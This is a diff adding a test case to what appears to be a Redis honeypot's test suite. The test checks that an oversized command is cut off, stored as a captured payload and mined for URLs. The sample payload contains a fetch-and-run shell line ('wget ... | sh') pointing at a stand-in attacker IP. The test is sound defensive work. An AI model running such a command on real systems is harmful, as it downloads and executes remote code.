@@ -79,6 +79,36 @@ def redis_cli_info_and_cron_write(ctx):
 
 
 @case
+def redis_oversized_command_kept_as_payload(ctx):
+    """A command larger than a connection may buffer (128 KiB) closes the connection, and what
+    arrived is kept: a session.file_upload of the first 128 KiB (protocol_detail input_overflow),
+    stored under its SHA-256 and mined for URLs like any upload."""
+    d = ctx.daemon("redis-overflow", [Service("redis", protocol="redis")]).start()
+    port = d.svc("redis").port
+    value = (b"#!/bin/sh\nwget http://198.51.100.31/big.sh -O- | sh\n" + b"A" * 200000)[:200000]
+    sent = b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$%d\r\n" % len(value) + value + b"\r\n"
+    s = socket.create_connection(("127.0.0.1", port), timeout=T(10))
+    try:
+        s.sendall(sent)
+    except OSError:
+        pass                                    # closed while we were still sending
+    s.close()
+    d.wait_event(lambda e: e["eventid"] == "session.closed", what="session.closed")
+    evs = stop_and_read(d)
+    closed = by(evs, "session.closed")[0]
+    assert closed.get("reason") == "input_overflow", closed
+    kept = sent[:128 * 1024]
+    sha = hashlib.sha256(kept).hexdigest()
+    up = [e for e in by(evs, "session.file_upload") if e.get("protocol_detail") == "input_overflow"]
+    assert len(up) == 1 and up[0]["shasum"] == sha and up[0]["size"] == len(kept), (up, sha)
+    assert up[0]["session"] == closed["session"], up
+    with open(os.path.join(d.data_dir, "payloads", sha), "rb") as f:
+        assert f.read() == kept
+    assert [e for e in evs if e.get("url") == "http://198.51.100.31/big.sh"], \
+        "the kept input's URL was not handed to the capture pipeline"
+
+
+@case
 def redis_replicaof_logged_never_followed(ctx):
     """SLAVEOF/REPLICAOF to an attacker's 'master' is logged and answered; no connection is made."""
     need("redis-cli")
